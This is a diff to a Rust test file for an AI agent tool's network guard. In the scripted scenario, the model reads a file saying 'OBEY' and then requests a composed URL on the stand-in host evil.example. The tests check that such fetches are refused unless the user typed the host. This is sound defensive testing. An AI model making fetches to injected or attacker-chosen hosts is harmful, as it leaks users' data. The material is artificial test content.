@@ -193,20 +193,74 @@ fn skills_of_concurrent_runs_are_all_recorded() {
     assert!(lines.iter().all(|line| line.len() == 32), "{record}");
 }
 
-/// Others may have chosen the names of files, which scripts put into messages.
+/// A model that reads a file and then asks for an address that it composed.
+fn asks_for_composed_address(story: &Story) {
+    story.server().script([
+        calls("read_file", json!({ "path": "notes.txt" })),
+        calls("web_fetch", json!({ "url": "http://evil.example/composed" })),
+        says("done"),
+    ]);
+}
+
+/// True if the last request of a composed address was not refused.
+fn was_named(story: &Story) -> bool {
+    let result = story.requests().last().unwrap().last_content();
+    !result.contains("unless the user writes `https://evil.example` in a message")
+}
+
+/// Scripts put the names of files into messages, and others may have chosen them.
+#[test]
+fn words_within_the_name_of_a_file_name_no_host() {
+    let story = Story::new()
+        .file("notes.txt", "OBEY")
+        .file("notes on evil.example", "x")
+        .file("a dir/of evil.example x", "x")
+        .file("prompt.txt", "Review ./notes on evil.example now.");
+    let check = |arguments: &[&str], is_named: bool| {
+        asks_for_composed_address(&story);
+        let ran = story.run([&["agent", "--new"], arguments].concat()).stdout("done\n");
+        assert_eq!(ran.error_text().contains("--net=evil.example"), !is_named);
+        assert_eq!(was_named(&story), is_named, "{arguments:?}");
+    };
+    check(&["-m", "review ./notes on evil.example"], false);
+    check(&["-m", "review notes on evil.example, please"], false);
+    check(&["-m", "review a dir/of evil.example x"], false);
+    let path = story.dir().join("notes on evil.example");
+    check(&["-m", &format!("review {}", path.display())], false);
+    check(&["--prompt-file", "prompt.txt"], false);
+    // What a denial says to write.
+    check(&["-m", "review ./notes on evil.example with https://evil.example"], true);
+    check(&["-m", "what's new on evil.example?"], true);
+    check(&["-m", "on evil.example/notes"], true);
+}
+
+/// The session keeps what was typed: a later turn, in another process, needs it.
+#[test]
+fn a_host_that_was_typed_is_known_in_later_turns() {
+    let story = Story::new().file("notes.txt", "OBEY").script([says("hello")]);
+    story.run(["agent", "-m", "look at evil.example"]).stdout("hello\n");
+    asks_for_composed_address(&story);
+    story.run(["agent", "-m", "go on"]).stdout("done\n").error_text();
+    assert!(was_named(&story));
+    // A line of another program does not say what was typed.
+    let path = story.workspace().join("sessions/cli_direct.jsonl");
+    let session = std::fs::read_to_string(&path).unwrap();
+    assert!(session.contains(r#""sources": {"hosts": ["evil.example"]}"#), "{session}");
+    let session = session.replace(r#""sources": {"hosts": ["evil.example"]}"#, r#""x": 1"#);
+    std::fs::write(&path, session).unwrap();
+    asks_for_composed_address(&story);
+    story.run(["agent", "-m", "go on"]).stdout("done\n").error_text();
+    assert!(!was_named(&story));
+}
+
 #[test]
 fn a_quoted_path_in_a_message_names_no_host() {
     let check = |message: &str, is_named: bool| {
-        let story = Story::new().file("notes.txt", "OBEY").script([
-            calls("read_file", json!({ "path": "notes.txt" })),
-            calls("web_fetch", json!({ "url": "http://evil.example/composed" })),
-            says("done"),
-        ]);
+        let story = Story::new().file("notes.txt", "OBEY");
+        asks_for_composed_address(&story);
         let ran = story.run(["agent", "-m", message]).stdout("done\n");
         ran.error_text();
-        let result = story.requests().last().unwrap().last_content();
-        let is_denied = result.contains("`evil.example` may be requested only");
-        assert_eq!(is_denied, !is_named, "{message}: {result}");
+        assert_eq!(was_named(&story), is_named, "{message}");
     };
     check("sum up evil.example", true);
     check("sum up 'evil.example'", true);
